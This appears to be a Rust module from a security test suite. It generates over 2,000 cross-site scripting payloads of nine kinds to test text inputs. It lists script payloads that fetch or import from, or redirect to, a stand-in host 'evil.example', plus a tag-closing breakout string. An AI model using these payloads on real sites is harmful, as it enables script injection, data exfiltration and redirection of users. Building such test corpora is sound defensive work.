//! Texts as somebody writes them who wants readers' browsers to run a script, to ask another host or to lead a reader away,
//! for the tests of every door that takes texts. Each is made from a grammar: what it is made of stands in the module of
//! its kind. Knows nothing of what is behind a door.
//!
//! Whatever comes through shows itself: a script sets `window.evil` or opens a dialog, a request goes to `evil.example`.

mod addresses;
mod breakouts;
mod clobbering;
mod handlers;
mod letters;
mod markdown;
mod mutations;
mod pages;
mod styles;

use std::collections::BTreeSet;

/// A text, and what it tries.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Attack {
    pub kind: &'static str,
    pub text: String,
}

/// What a script does that comes through.
const SCRIPTS: [&str; 8] = [
    "evil=1",
    "alert(1)",
    "window['ev'+'il']=1",
    "location='//evil.example/'",
    "fetch('//evil.example/a')",
    "new Image().src='//evil.example/a.png'",
    "import('//evil.example/a.js')",
    "top.evil=confirm`1`",
];

/// Ends of elements that hold others or take what follows for their own.
macro_rules! ends {
    () => {
        "</template></select></p></mglyph></malignmark></table></button></form></p></object></video></audio></applet></marquee>\
         </div></p></desc></title></foreignObject></mtext></mi></annotation-xml></svg></math></table></a></b></p>"
    };
}

/// Closes whatever a text left open, so that another text can follow it on the same page. Some ends count only behind others.
pub const CLOSER: &str = concat!(
    "--> ?> ]]> \"> '> </style></script></title></textarea></xmp></noscript></noembed></noframes></iframe>",
    ends!(),
    ends!(),
    ends!()
);

/// Every attack, always the same ones in the same order: more than 2,000.
pub fn all() -> Vec<Attack> {
    let kinds: [(&'static str, Vec<String>); 9] = [
        ("handlers", handlers::all()),
        ("addresses", addresses::all()),
        ("mutations", mutations::all()),
        ("clobbering", clobbering::all()),
        ("styles", styles::all()),
        ("pages", pages::all()),
        ("breakouts", breakouts::all()),
        ("letters", letters::all()),
        ("markdown", markdown::all()),
    ];
    let mut seen = BTreeSet::new();
    let all =
        kinds.into_iter().flat_map(|(kind, texts)| texts.into_iter().map(move |text| Attack { kind, text }));
    all.filter(|attack| seen.insert(attack.text.clone())).collect()
}

/// One attack in `step` of each kind, so that no kind is missing.
pub fn some(step: usize) -> Vec<Attack> {
    let mut counts = std::collections::BTreeMap::<&str, usize>::new();
    let mut all = all();
    all.retain(|attack| {
        let count = counts.entry(attack.kind).or_default();
        *count += 1;
        (*count - 1).is_multiple_of(step)
    });
    all
}

/// Addresses that no link of a site may have.
pub fn addresses() -> Vec<String> {
    addresses::obfuscated()
}

/// A text as YAML and TOML both read it: in double quotes, every letter but plain ones by its number.
pub fn quoted(text: &str) -> String {
    let letters = text.chars().map(|c| match c {
        ' '..='~' if !matches!(c, '"' | '\\') => c.to_string(),
        c if u32::from(c) > 0xffff => format!("\\U{:08x}", u32::from(c)),
        c => format!("\\u{:04x}", u32::from(c)),
    });
    ["\"", &letters.collect::<String>(), "\""].concat()
}

/// The script for the text of this number.
fn script(at: usize) -> &'static str {
    SCRIPTS[at % SCRIPTS.len()]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn there_are_more_than_two_thousand_of_nine_kinds() {
        let all = all();
        assert!(all.len() > 2_000, "{}", all.len());
        let kinds: BTreeSet<_> = all.iter().map(|attack| attack.kind).collect();
        let some: BTreeSet<_> = some(50).iter().map(|attack| attack.kind).collect();
        assert_eq!((kinds.len(), some), (9, kinds));
    }
}
